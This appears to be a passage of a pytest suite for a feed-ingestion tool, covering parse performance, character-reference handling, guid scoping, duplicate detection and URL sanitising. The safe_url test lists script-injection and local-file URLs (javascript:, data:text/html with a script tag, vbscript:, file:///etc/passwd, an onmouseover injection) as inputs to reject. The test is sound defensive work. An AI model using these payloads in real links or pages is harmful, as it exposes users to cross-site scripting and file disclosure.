        items, st, _, _ = ingest.parse_feed(body, Source(name="nest", url="https://nest.example/"))
        spent = time.process_time() - started
        assert st == "ok" and len(items) == 5
        return spent

    small, big = cpu_seconds(5_000), cpu_seconds(20_000)  # the larger feed is over 1.5 MB
    assert big < 8 * small + 0.5, (small, big)
    assert big < 30


def test_character_references_that_are_not_characters_do_not_crash() -> None:
    items, st, reason, _ = ingest.parse_feed(bad_charrefs(), Source(name="refs", url="https://example.org/"))
    assert st in ("ok", "warning") and len(items) == 2, reason
    for it in items:
        it.title.encode("utf-8")  # no lone surrogates: every renderer can write it
        it.summary.encode("utf-8")
        assert "\x00" not in it.title + it.summary
    assert fix_text("a\ud800b\udfffc") == "a\ufffdb\ufffdc"


def test_guids_are_scoped_to_their_feed(tmp_path: Path) -> None:
    """A feed that copies another feed's guids cannot make the store drop the other feed's items."""
    good, *_ = ingest.parse_feed(good_feed(), Source(name="Good", url="https://good.example/feed"))
    shadow, _, _, shadow_canon = ingest.parse_feed(
        shadowing_guids(), Source(name="Shadow", url="https://shadow.example/")
    )
    store = Store(f"sqlite:///{tmp_path}/t.db")
    try:
        assert len(store.add_items(shadow, shadow_canon)) == len(GOOD_TITLES)
        good_canon = {it.id: ingest.canonical_url(it.url) for it in good}
        assert len(store.add_items(good, good_canon)) == len(GOOD_TITLES)
        assert store.add_items(good, good_canon) == []  # and the same feed again is still a duplicate
    finally:
        store.close()


def test_items_sharing_a_home_page_link_all_arrive(tmp_path: Path) -> None:
    """Meduza links every item to https://meduza.io/: that link identifies none of them."""
    body = (FEEDS / "meduza_2026-01-04_chronicle_ru_epoch-dates.xml").read_bytes()
    items, _, _, canonical = ingest.parse_feed(body, Source(name="Meduza", url="https://meduza.io/rss"))
    store = Store(f"sqlite:///{tmp_path}/t.db")
    try:
        assert len(store.add_items(items, canonical)) == len(items) == 24
    finally:
        store.close()


@pytest.mark.parametrize(
    ("url", "kept"),
    [
        ("https://example.org/a?b=c", True),
        ("javascript:alert(1)", False),
        (" JaVaScRiPt:alert(1)", False),
        ("java\tscript:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("vbscript:msgbox(1)", False),
        ("file:///etc/passwd", False),
        ("//evil.example/x", False),
        ("/relative/path", False),
        ('https://example.org/"onmouseover="alert(1)', False),
        ("https://example.org/<script>", False),
        ("https://example.org/a b", False),
        ("https://example.org/\x00", False),
        ("https://example.org/" + "a" * 3000, False),
        ("https://[::1", False),
        ("http://127.0.0.1:8080/feed", True),
    ],
)
def test_safe_url(url: str, kept: bool) -> None:
    assert (ingest.safe_url(url) == url.strip()) is kept


def test_a_local_fifo_as_feed_path_does_not_block(tmp_path: Path) -> None:
    import os

    fifo = tmp_path / "feed.xml"
    os.mkfifo(fifo)
    started = time.monotonic()
    res = ingest.read_source(Source(name="fifo", path=fifo), _settings(tmp_path), {})
    assert res.status.status == "error" and "not a regular file" in res.status.reason
    assert time.monotonic() - started < 2
